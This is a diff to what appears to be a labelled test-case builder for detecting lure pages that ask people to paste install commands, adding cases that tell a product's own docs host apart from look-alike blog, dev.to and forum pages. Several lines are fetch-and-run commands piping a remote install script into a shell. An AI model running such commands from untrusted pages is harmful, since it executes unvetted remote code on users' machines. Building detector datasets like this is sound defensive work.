@@ -27,6 +27,10 @@ Principles:
   the site's core and one installer word (saltproject.io's core salt: salt-bootstrap, like
   widgetctl-installer), from the site's own sections. Look-alikes: a forum on the site, a page
   about something else, another word after the name.
+- `docs-affix`: a project's own documentation host (docs.<its domain>) whose page names the
+  product, for the product's domain spelt with a company's word in front (docs.qx.dev's page on
+  quillix and withquillix.dev). Look-alikes: the same page name on a blog, dev.to or a forum, a
+  docs page naming another product.
 - `tail-addresses`: a lure's tail is words shown to a person; an address or a file path in an
   echoed line (an apt source naming pkg.example-cloudflare… and a keyring file) is no such word.
   Look-alikes: the same company's name as a word of a tail after a comment, REM or echo.
@@ -193,6 +197,18 @@ def installer_repos() -> list[dict[str, str]]:
     ]  # fmt: skip
 
 
+def docs_affix() -> list[dict[str, str]]:
+    cmd = 'bash -c "$(curl -fsSL https://withquillix.dev/install.sh)"'
+    return [
+        ok("docs-affix-1", cmd, "linux", "https://docs.qx.dev/installing-quillix/cli/"),
+        ok("docs-affix-2", "curl -fsSL https://get.usequillix.io/install.sh | sh", "macos", "https://developer.qx.dev/quillix/install"),
+        lure("docs-affix-blog-1", cmd, "flagged", "T1105", "linux", "https://linuxnotes.example/installing-quillix"),
+        lure("docs-affix-devto-1", cmd, "flagged", "T1105", "linux", "https://dev.to/someone/installing-quillix-3k"),
+        lure("docs-affix-forum-1", cmd, "flagged", "T1105", "linux", "https://forum.qx.dev/t/installing-quillix/12"),
+        lure("docs-affix-other-1", cmd, "flagged", "T1105", "linux", "https://docs.qx.dev/installing-agent/"),
+    ]  # fmt: skip
+
+
 def tail_addresses() -> list[dict[str, str]]:
     apt = (
         "curl -fsSL https://apt.quillmesh.dev/gpg | sudo tee /usr/share/keyrings/cloudflare-quill.gpg >/dev/null\n"
@@ -249,6 +265,7 @@ def build() -> list[dict[str, str]]:
         *tenant_sites(),
         *short_links(),
         *installer_repos(),
+        *docs_affix(),
         *tail_addresses(),
         *device_code_docs(),
         *remote_desktop(),
